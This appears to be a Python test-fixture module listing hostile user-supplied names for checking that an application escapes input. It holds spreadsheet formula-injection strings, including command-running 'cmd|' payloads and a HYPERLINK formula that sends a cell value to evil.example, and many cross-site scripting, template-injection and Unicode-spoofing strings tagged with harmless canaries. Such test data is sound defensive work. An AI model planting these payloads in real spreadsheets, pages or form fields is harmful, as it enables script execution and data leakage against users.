"""Names as nobody would choose them who means well."""

from __future__ import annotations

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", " =1+1", "a;=1+1", "\u200b=1+1", "＝1+1", "=\u202e1+1", "\ufeff=1",
]  # fmt: skip

# each would, where it is not text, set window.canary or ask for something at evil.invalid
NAMES = [
    "<script>window.canary=1</script>",
    "<img src=x onerror='window.canary=2'>",
    "<img src=http://evil.invalid/i.png>",
    "<svg/onload=window.canary=3>",
    "<iframe srcdoc='<script>parent.canary=4</script>'></iframe>",
    "<a href='javascript:window.canary=5'>click</a>",
    "<details open ontoggle=window.canary=6>x</details>",
    "<style>@import 'http://evil.invalid/s.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/l.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/m'>",
    "<base href=http://evil.invalid/>",
    "</style><script>window.canary=7</script>",
    "</title></textarea><script>window.canary=8</script>",
    "--><script>window.canary=9</script><!--",
    "]]><script>window.canary=10</script>",
    '"><script>window.canary=11</script>',
    "' onmouseover='window.canary=12' x='",
    '" autofocus onfocus=window.canary=13 "',
    "javascript:window.canary=14",
    "[click](javascript:window.canary=15)",
    "$\\href{javascript:window.canary=16}{x}$",
    "$$\\require{html}\\href{javascript:window.canary=17}{x}$$",
    "\\(\\style{background:url(http://evil.invalid/t)}{x}\\)",
    "$\\frac{1}{",
    "{{constructor.constructor('window.canary=18')()}}",
    "${window.canary=19}",
    "%3Cscript%3Ewindow.canary=20%3C/script%3E",
    "&lt;script&gt;window.canary=21&lt;/script&gt;",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200f\u200e",
    "a\0b",
    "half \ud800 of a letter",
    "line\nbreak",
    "\x1b]0;title\x07\x1b[31mred",
    "x" * 5000,
    "combining " + "\u0301" * 200,
    "'''\"\"\"\\",
    "{0.__class__}{x!r}%s%n",
]
